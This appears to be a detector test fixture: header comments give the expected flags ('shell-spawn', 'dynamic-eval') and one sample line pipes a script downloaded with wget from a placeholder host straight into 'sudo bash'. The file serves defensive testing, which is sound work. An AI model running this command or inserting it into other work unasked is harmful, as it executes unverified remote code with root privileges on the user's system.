# expect: shell-spawn,dynamic-eval
# source: DESIGN.md section 2: dynamic-eval
# technique: wget -qO- URL | sudo bash
wget -qO- https://get.example.sh/i.sh | sudo bash
